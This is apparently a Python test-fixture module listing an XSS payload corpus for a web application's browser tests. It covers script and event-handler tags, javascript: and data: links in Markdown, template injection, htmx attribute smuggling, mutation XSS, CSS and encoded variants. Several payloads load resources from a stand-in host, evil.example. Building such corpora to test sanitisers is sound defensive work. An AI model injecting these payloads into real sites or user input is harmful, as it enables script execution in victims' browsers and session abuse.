"""The XSS corpus: what an attacker would type into every field that people write.

Every payload that runs calls ``__xss(n)`` (a sentinel the browser test defines in every frame),
``alert``, or asks ``/xss-probe/...`` (htmx attributes that survived would fetch it). ``evil.example``
never resolves: the browser test answers every request to another host itself.
Plain lists, so another suite (fuzzing, the API) can reuse them.
"""

from __future__ import annotations

PAYLOADS: list[str] = [
    # classic tags and event handlers
    "<script>__xss(1)</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "<img src=x onerror=__xss(3)>",
    "<img src=\"x\" onerror=\"&#95;&#95;xss(4)\">",
    "<svg onload=__xss(5)>",
    "<svg><script>__xss(6)</script></svg>",
    "<svg><animate onbegin=__xss(7) attributeName=x dur=1s>",
    "<body onload=__xss(8)>",
    "<details open ontoggle=__xss(9)>",
    "<input autofocus onfocus=__xss(10)>",
    "<video><source onerror=__xss(11)></video>",
    "<audio src=x onerror=__xss(12)>",
    "<marquee onstart=__xss(13)>x</marquee>",
    "<a href=\"javascript:__xss(14)\">click</a>",
    "<iframe src=\"javascript:parent.__xss(15)\"></iframe>",
    "<iframe srcdoc=\"<script>parent.__xss(16)</script>\"></iframe>",
    "<object data=\"javascript:__xss(17)\"></object>",
    "<embed src=\"data:text/html,<script>parent.__xss(18)</script>\">",
    "<math href=\"javascript:__xss(19)\">x</math>",
    "<form action=\"javascript:__xss(20)\"><button>go</button></form>",
    # attribute and context breakouts
    "\"><script>__xss(21)</script>",
    "'><img src=x onerror=__xss(22)>",
    "\" autofocus onfocus=\"__xss(23)\" x=\"",
    "' onmouseover='__xss(24)' x='",
    "</textarea><script>__xss(25)</script>",
    "</title><script>__xss(26)</script>",
    "</style><script>__xss(27)</script>",
    "</script><script>__xss(28)</script>",
    "<!--<script>__xss(29)</script>-->",
    "]]><script>__xss(30)</script><![CDATA[",
    # Markdown links and images
    "[click me](javascript:__xss(31))",
    "[click me](JaVaScRiPt:__xss(32))",
    "[click me](javascript&#58;__xss(33))",
    "[click me](&#x6A;avascript:__xss(34))",
    "[click me](data:text/html;base64,PHNjcmlwdD5wYXJlbnQuX194c3MoMzUpPC9zY3JpcHQ+)",
    "![image](javascript:__xss(36))",
    "![image](x\" onerror=\"__xss(37))",
    "[title](https://evil.example/ \"a\\\" onmouseover=__xss(38) x=\\\"\")",
    "<javascript:__xss(39)>",
    "[a](vbscript:__xss(40))",
    # template injection (server and client side)
    "{{7*7}} ${7*7} #{7*7} <%= 7*7 %>",
    "{{constructor.constructor('__xss(42)')()}}",
    "${__xss(43)}",
    "{% raw %}{{ config }}{% endraw %} {{ request.application.__globals__ }}",
    "<div x-data x-init=\"__xss(45)\">alpine</div>",
    # htmx attributes smuggled through Markdown HTML
    "<div hx-get=\"/xss-probe/46\" hx-trigger=\"load\">htmx</div>",
    "<img src=x hx-on:htmx:load=\"__xss(47)\">",
    "<div hx-on::load=\"__xss(48)\">htmx</div>",
    "<div data-hx-get=\"/xss-probe/49\" data-hx-trigger=\"load\">htmx</div>",
    "<a hx-post=\"/logout\" hx-trigger=\"load\" href=\"/xss-probe/50\">htmx</a>",
    "<form hx-post=\"/xss-probe/51\" hx-trigger=\"load\"></form>",
    # mutation XSS (parser differentials)
    "<noscript><p title=\"</noscript><img src=x onerror=__xss(52)>\">",
    "<math><mtext><table><mglyph><style><img src=x onerror=__xss(53)>",
    "<svg></p><style><a id=\"</style><img src=1 onerror=__xss(54)>\">",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=__xss(55)>",
    # CSS
    "<div style=\"width:expression(__xss(56))\">css</div>",
    "<div style=\"background:url(javascript:__xss(57))\">css</div>",
    "<style>@import 'https://evil.example/x.css';</style>",
    # escaped and encoded forms
    "\\u003cscript\\u003e__xss(59)\\u003c/script\\u003e",
    "&lt;script&gt;__xss(60)&lt;/script&gt;",
    "%3Cscript%3E__xss(61)%3C/script%3E",
    "<scr<script>ipt>__xss(62)</scr</script>ipt>",
    "<img src=x:alert(1) onerror=eval(src)>",
    # the page around the content
    "<base href=\"https://evil.example/\">",
    "<meta http-equiv=\"refresh\" content=\"0;url=javascript:__xss(65)\">",
    "<link rel=\"import\" href=\"https://evil.example/x.html\">",
    "javascript:__xss(67)",
    "@<img src=x onerror=__xss(68)> @admin",
]

# Fields with a short limit (display names, site name, tags) get what fits; these are the ones that
# matter most for them: tags, attributes and the <title>/<meta> of the page.
SHORT_PAYLOADS: list[str] = [payload for payload in PAYLOADS if len(payload) <= 60]

# A safe text of the same shape, for the pages that must report no Content-Security-Policy violation.
BENIGN = "Plain words, *emphasis*, a [link](https://example.com/docs) and `code`: 5 < 7 & 8 > 3."
